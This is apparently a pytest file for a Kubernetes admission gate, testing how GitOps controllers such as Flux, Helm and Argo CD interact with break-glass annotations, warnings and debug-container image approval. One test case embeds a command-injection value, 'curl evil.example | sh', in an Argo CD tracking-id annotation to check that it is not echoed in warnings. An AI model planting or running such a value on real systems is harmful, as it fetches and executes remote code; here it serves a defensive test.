# SPDX-License-Identifier: Apache-2.0
"""A broken glass beside what applies its workload from Git, again and again."""

import json

import pytest

from cabgate.lifecycle.requests.break_glass import ANNOTATION, BY_ANNOTATION
from cabgate_devcluster import wait_until
from cabgate_samples.objects import GOOD
from support.gated import gated, url
from support.glass import WHY, Glass, annotated, image_of, refusal, warnings_of
from support.namespaces import create_namespace

FLUX = "system:serviceaccount:flux-system:kustomize-controller"
TOOLS = ["kustomize-controller", "helm-controller", "argocd-controller"]
OF_FLUX = {
    "kustomize.toolkit.fluxcd.io/name": "shop",
    "kustomize.toolkit.fluxcd.io/namespace": "flux-system",
}


@pytest.fixture(scope="module")
def glass(gate):
    bind = ("create", "clusterrolebinding")
    gate.cluster.kubectl(*bind, "tools-edit", "--clusterrole=edit", "--user=breaker")
    gate.cluster.kubectl(*bind, "tools", "--clusterrole=cabgate-break-glass", "--user=breaker")
    gate.cluster.kubectl(
        *("create", "clusterrole", "tools-debug", "--verb=patch,update"),
        "--resource=pods/ephemeralcontainers",
    )
    gate.cluster.kubectl(*bind, "tools-debug", "--clusterrole=tools-debug", "--user=breaker")
    create_namespace(gate.cluster, "flux-system", None)
    # As it is installed: with every right, and so with the verb.
    account = "--serviceaccount=flux-system:kustomize-controller"
    gate.cluster.kubectl(*bind, "tools-flux", "--clusterrole=cluster-admin", account)
    made = Glass(gate)
    yield made
    made.close()
    bound = ("tools-edit", "tools", "tools-flux", "tools-debug")
    gate.cluster.kubectl("delete", "clusterrolebinding", *bound)
    gate.cluster.kubectl("delete", "clusterrole", "tools-debug")
    gate.cluster.kubectl("delete", "namespace", "flux-system", "--wait=false")


def applies(glass, user, namespace, image="web:1", manager="kustomize-controller", **params):
    """What Flux does to a Deployment at each reconcile; the answer."""
    obj = gated("Deployment", namespace, images=(image,))
    return glass.client(user).patch(
        url("Deployment", namespace, "web"),
        content=json.dumps(obj),
        headers={"Content-Type": "application/apply-patch+yaml"},
        params={"fieldManager": manager, "force": "true", **params},
    )


def takes_over(glass, user, namespace, manager="kustomize-controller"):
    """Make a tool the owner of what people wrote with kubectl, as Flux does before it applies."""

    def taken():
        live = glass.get(namespace)["metadata"]
        owned = [
            {**entry, "manager": manager, "operation": "Apply"}
            for entry in live["managedFields"]
            if entry["manager"] == "kubectl-patch"
        ]
        assert owned, "nobody wrote with kubectl"
        others = [
            e for e in live["managedFields"] if e["manager"] not in ("kubectl-patch", manager)
        ]
        body = {
            "metadata": {
                "resourceVersion": live["resourceVersion"],
                "managedFields": [*others, *owned],
            }
        }
        return glass.patch(user, namespace, body, fieldManager=manager).status_code == 200

    wait_until(taken, "the tool owns it")


@pytest.mark.parametrize("manager", TOOLS)
def test_a_tool_that_undoes_a_break_is_not_wedged_and_leaves_the_record(
    gate, glass, namespace, manager
):
    gate.open(namespace, GOOD, "AutoApproved", images=("web:1",))
    user = FLUX if manager == "kustomize-controller" else "breaker"
    assert applies(glass, user, namespace, manager=manager).status_code == 201
    answer = glass.breaks("breaker", namespace, fieldManager="kubectl-patch")
    assert answer.status_code == 200, answer.text
    before = glass.annotations(namespace)
    takes_over(glass, user, namespace, manager)
    # It rolls back what was broken through, by the gate's own rules, and goes on reconciling.
    for _ in range(3):
        dry = applies(glass, user, namespace, manager=manager, dryRun="All")
        assert dry.status_code == 200, dry.text
        assert applies(glass, user, namespace, manager=manager).status_code == 200
        live = glass.get(namespace)
        assert image_of("Deployment", live) == "web:1"
        assert glass.annotations(namespace) == before
    # The last dry-run showed what is there already: nothing drifts.
    found = applies(glass, user, namespace, manager=manager, dryRun="All").json()
    for each in (found, live):  # the deployment controller writes it when it has seen the rollback
        each["metadata"]["annotations"].pop("deployment.kubernetes.io/revision", None)
    assert found["metadata"]["annotations"] == live["metadata"]["annotations"]
    (request,) = glass.opened(namespace)
    assert request["spec"]["breakGlass"]["by"] == "breaker"


def test_a_tool_takes_the_annotation_away_by_no_kind_of_write(glass, namespace):
    glass.make(namespace)
    assert glass.breaks("breaker", namespace).status_code == 200
    before = glass.annotations(namespace)
    assert before[BY_ANNOTATION] == "breaker"
    for body in (annotated(None), {"metadata": {"annotations": None}}):
        for sub in ("", "status"):
            answer = glass.patch(FLUX, namespace, body, sub=sub)
            assert answer.status_code == 200, answer.text
            assert glass.annotations(namespace) == before
    for manager in TOOLS:
        for user in ("requester", "breaker"):
            answer = glass.patch(user, namespace, annotated(None), fieldManager=manager)
            assert answer.status_code == 200, answer.text
            assert glass.annotations(namespace) == before
    # A person is told, and who holds the verb may.
    said = refusal(glass.patch("requester", namespace, annotated(None)))
    assert said.startswith("BreakGlassDenied: ")
    # Nor does a tool break it.
    said = refusal(glass.patch(FLUX, namespace, annotated("INC-2: by a robot")))
    assert said.startswith("BreakGlassServiceAccount: ")
    assert glass.patch("breaker", namespace, annotated(None)).status_code == 200
    assert ANNOTATION not in glass.annotations(namespace)


def test_the_warning_names_the_tool_and_how_to_pause_it(glass, namespace):
    flux = "kustomizations.kustomize.toolkit.fluxcd.io shop -n flux-system --type=merge"
    release = {name.replace("kustomize", "helm"): value for name, value in OF_FLUX.items()}
    application = {"argocd.argoproj.io/tracking-id": "team_shop:apps/Deployment:x/web"}
    evil = {"argocd.argoproj.io/tracking-id": "shop; curl evil.example | sh:x"}
    cases = [
        ("flux", OF_FLUX, {}, f"Flux, at its next reconcile: kubectl patch {flux}"),
        ("helm", release, {}, "kubectl patch helmreleases.helm.toolkit.fluxcd.io shop"),
        ("argo", {}, application, "argocd app set team/shop --sync-policy none"),
        ("label", {"argocd.argoproj.io/instance": "shop"}, {}, "argocd app set shop --sync"),
        ("evil", {}, evil, None),
        ("none", {}, {}, None),
    ]
    for name, labels, annotations, wanted in cases:
        obj = gated("Deployment", namespace, name)
        obj["metadata"]["labels"].update(labels)
        obj["metadata"]["annotations"] = {**annotations, ANNOTATION: WHY}
        answer = glass.client("breaker").post(url("Deployment", namespace), json=obj)
        assert answer.status_code == 201, answer.text
        said = warnings_of(answer)
        assert "the glass is broken" in said
        assert ("pause what undoes this" in said) is (wanted is not None), said
        assert (wanted or "") in said
        assert "evil.example" not in said
        # Only who breaks it is told.
        again = glass.patch("breaker", namespace, {"metadata": {"labels": {"x": "y"}}}, name=name)
        assert not warnings_of(again)


def debugs(glass, user, namespace, pod, image):
    """What `kubectl debug` writes; the answer."""
    name = f"debug-{image.replace(':', '-')}"
    body = {"spec": {"ephemeralContainers": [{"name": name, "image": image}]}}
    client = glass.client(user)
    return client.patch(
        url("Pod", namespace, pod) + "/ephemeralcontainers",
        content=json.dumps(body),
        headers={"Content-Type": "application/strategic-merge-patch+json"},
    )


def test_a_debug_image_is_approved_once_for_a_workload(gate, glass, namespace):
    gate.open(namespace, GOOD, "AutoApproved", images=("web:1",))
    obj = gated("Deployment", namespace)
    obj["spec"]["replicas"] = 2
    made = glass.client("breaker").post(url("Deployment", namespace), json=obj)
    assert made.status_code == 201, made.text
    pods = wait_until(
        lambda: found if len(found := gate.items("pods", namespace)) == 2 else None, "two Pods"
    )
    first, second = (pod["metadata"]["name"] for pod in pods)
    # The Pod's own images need nothing.
    assert debugs(glass, "breaker", namespace, first, "web:1").status_code == 200
    denied = debugs(glass, "breaker", namespace, first, "busybox:1")
    assert denied.status_code == 403
    assert "does not name image busybox:1" in denied.json()["message"]
    gate.open(namespace, GOOD, "AutoApproved", images=("busybox:1", "web:1"))
    for pod in (first, second):
        answer = debugs(glass, "breaker", namespace, pod, "busybox:1")
        assert answer.status_code == 200, answer.text
    assert debugs(glass, "breaker", namespace, second, "other:1").status_code == 403


def test_a_debug_image_breaks_the_glass_in_the_workload(glass, namespace):
    glass.make(namespace)
    debug = {"name": "debug", "image": "busybox:1"}
    body = {**annotated(WHY), "spec": {"template": {"spec": {"containers": [debug]}}}}
    answer = glass.client("breaker").patch(
        url("Deployment", namespace, "web"),
        content=json.dumps(body),
        headers={"Content-Type": "application/strategic-merge-patch+json"},
    )
    assert answer.status_code == 200, answer.text
    (request,) = glass.opened(namespace)
    assert request["spec"]["targets"][0]["images"] == ["busybox:1", "web:1"]


def test_a_dry_run_breaks_nothing_and_says_so(glass, namespace):
    glass.make(namespace)
    answer = glass.breaks("breaker", namespace, "INC-2: only to see", dryRun="All")
    assert answer.status_code == 200, answer.text
    said = warnings_of(answer)
    assert "without the dry run this breaks the glass: a retrospective review follows" in said
    assert "the glass is broken" not in said
    assert glass.annotations(namespace) == {}
    assert image_of("Deployment", glass.get(namespace)) == "web:1"
    assert "the glass is broken" in warnings_of(glass.breaks("breaker", namespace))
    (request,) = glass.opened(namespace)
    assert request["spec"]["breakGlass"]["ticket"] == "INC-1"
